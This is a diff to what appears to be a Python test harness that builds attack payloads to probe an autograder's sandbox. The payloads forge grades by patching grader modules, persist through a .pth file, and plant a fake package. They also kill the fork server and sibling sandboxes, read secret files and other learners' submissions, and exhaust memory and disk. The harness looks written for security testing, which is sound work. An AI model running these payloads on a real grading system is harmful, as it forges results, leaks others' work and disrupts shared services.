@@ -18,6 +18,15 @@ import grade_submissions as gs
 SOLVED_SOURCE = "import numpy as np\nimport tensorflow as tf\n" + gs.GET_INITIALIZER_SOLUTION + "\n" + gs.SOLVED_CLASS
 
 
+def done(label: str, detail: str = "''") -> str:
+    """The attack's last line: an error naming it (the grader reports a cell's error to the learner),
+    proof that it ran to its end. Split in two in the source, which error reports quote."""
+    return f'raise RuntimeError("ATTACK-" + "DONE {label} " + str({detail}))\n'
+
+
+KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
+
+
 def begin_marker(token: str) -> str:
     return f"# >>> attack-{token}"
 
@@ -102,10 +111,11 @@ def _targets(cli_token: str, host_pid_namespace: str) -> str:
         """)
 
 
-def persistence(token: str, marks: str) -> str:
-    """Append forging code to the grader's modules, drop a .pth into the venv, kill the fork server."""
+def persistence(token: str, marks: str) -> tuple:
+    """Append forging code to the grader's modules, drop a .pth into the venv (one cell); kill the
+    fork server (the next)."""
     return textwrap.dedent(f"""\
-        import importlib, os, signal, site, sys, sysconfig
+        import importlib, os, site, sys, sysconfig
         modules = []
         for name in ("checks.exercise", "checks.grade", "grader", "grader.worker", "grader.server"):
             try:
@@ -126,11 +136,10 @@ def persistence(token: str, marks: str) -> str:
                     f.write({pth_line(marks)!r})
             except OSError:
                 pass
-        os.kill(os.getppid(), signal.SIGKILL)
-        """)
+        """) + done("persistence", "len(modules)"), KILL_PARENT
 
 
-def planted_package(token: str, marks: str) -> str:
+def planted_package(token: str, marks: str) -> tuple:
     """Plant a ``checks`` package (the real one, plus forging code) in every folder the fork server
     searches before the real one, and in the sandbox's working folder and its parent; then kill the
     fork server so that a new one imports it."""
@@ -143,7 +152,7 @@ def planted_package(token: str, marks: str) -> str:
             exec(compile(_source.read(), __file__, "exec"))
         """) + forging_code(token, marks)
     return textwrap.dedent(f"""\
-        import os, signal, sys
+        import os, sys
         import checks
         real = os.path.dirname(os.path.abspath(checks.__file__))
         candidates = []
@@ -167,14 +176,13 @@ def planted_package(token: str, marks: str) -> str:
                     f.write({init!r}.replace("{{real!r}}", repr(real)))
             except OSError:
                 pass
-        os.kill(os.getppid(), signal.SIGKILL)
-        """)
+        """) + done("planted-package", "candidates"), KILL_PARENT
 
 
-def kill_siblings(cli_token: str, host_pid_namespace: str, seconds: float) -> str:
+def kill_siblings(cli_token: str, host_pid_namespace: str, seconds: float) -> tuple:
     """Switch off the cell's alarm, then SIGKILL every other process it may (sibling sandboxes,
     the fork server and every new one) for ``seconds``."""
-    return _targets(cli_token, host_pid_namespace) + textwrap.dedent(f"""\
+    return (_targets(cli_token, host_pid_namespace) + textwrap.dedent(f"""\
         import time
         signal.alarm(0)
         signal.signal(signal.SIGALRM, signal.SIG_IGN)
@@ -184,36 +192,38 @@ def kill_siblings(cli_token: str, host_pid_namespace: str, seconds: float) -> st
                 signal.signal(getattr(signal, name), signal.SIG_IGN)
             except (OSError, ValueError, AttributeError):
                 pass
-        deadline = time.monotonic() + {seconds!r}
+        deadline, killed = time.monotonic() + {seconds!r}, set()
         while time.monotonic() < deadline:
             for pid in attack_targets():
                 try:
                     os.kill(pid, signal.SIGKILL)
+                    killed.add(pid)
                 except OSError:
                     pass
             time.sleep(0.02)
-        """)
+        """) + done("siblings", "len(killed)"),)
 
 
-def connect(port: int, udp_port: int, token: str) -> str:
+def connect(port: int, udp_port: int, token: str) -> tuple:
     """Reach a listener on the host's 127.0.0.1 over TCP and UDP."""
     return textwrap.dedent(f"""\
         import socket
+        failures = []
         for attempt in range(3):
             try:
                 with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
                     s.sendall(b"attack-{token} over TCP\\n")
-            except OSError:
-                pass
+            except OSError as exc:
+                failures.append(type(exc).__name__)
             try:
                 with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                     u.sendto(b"attack-{token} over UDP", ("127.0.0.1", {udp_port}))
-            except OSError:
-                pass
-        """)
+            except OSError as exc:
+                failures.append(type(exc).__name__)
+        """) + done("network", "failures"),
 
 
-def home_and_etc(token: str, writable: list[str], secret: list[str]) -> str:
+def home_and_etc(token: str, writable: list[str], secret: list[str]) -> tuple:
     """Create files in home and /etc, append to the test's files there, read its secret files (and
     raise what was read, so that it would show in the feedback)."""
     return textwrap.dedent(f"""\
@@ -243,12 +253,11 @@ def home_and_etc(token: str, writable: list[str], secret: list[str]) -> str:
                     leaked.append(f.read().strip())
             except OSError:
                 pass
-        if leaked:
-            raise RuntimeError("HOME-" + "LEAKED " + " ".join(leaked))
-        """)
+        leaked = ("HOME-" + "LEAKED " + " ".join(leaked)) if leaked else ""
+        """) + done("home-etc", "leaked"),
 
 
-def read_others(token: str, solutions: str, submissions: str, out: str) -> str:
+def read_others(token: str, solutions: str, submissions: str, out: str) -> tuple:
     """Copy the answers from solutions/ and from other learners' submissions (so a leak earns marks),
     list and read the submissions and OUT (raising the secrets found), plant files in both."""
     return textwrap.dedent(f"""\
@@ -291,12 +300,11 @@ def read_others(token: str, solutions: str, submissions: str, out: str) -> str:
                     f.write("{{}}")
             except OSError:
                 pass
-        if leaked:
-            raise RuntimeError("OTHERS-" + "LEAKED " + " ".join(leaked))
-        """)
+        leaked = ("OTHERS-" + "LEAKED " + " ".join(leaked)) if leaked else ""
+        """) + done("read-others", "leaked"),
 
 
-def memory_split(children: int, child_mb: int, limit_mb: int) -> str:
+def memory_split(children: int, child_mb: int, limit_mb: int) -> tuple:
     """Fork ``children`` processes that each touch ``child_mb`` MB and hold it; if together they held
     the limit or more at once, say so (raised, so it shows in the row's problems)."""
     return textwrap.dedent(f"""\
@@ -337,10 +345,10 @@ def memory_split(children: int, child_mb: int, limit_mb: int) -> str:
                 pass
         if held * {child_mb} >= {limit_mb}:
             raise RuntimeError("MEMORY-" + f"OVER: {{held}} processes held {{held * {child_mb}}} MB at once; limit {limit_mb} MB")
-        """)
+        """) + done("memory-split", "held"),
 
 
-def disk_fill(token: str, bound_mb: int) -> str:
+def disk_fill(token: str, bound_mb: int) -> tuple:
     """Write files of 32 MB until a write fails or ``bound_mb`` is written, into /tmp, the temporary
     folder Python picks and the working folder."""
     return textwrap.dedent(f"""\
@@ -363,4 +371,4 @@ def disk_fill(token: str, bound_mb: int) -> str:
                 except OSError:
                     full = True
                 number += 1
-        """)
+        """) + done("disk-fill", "written >> 20"),
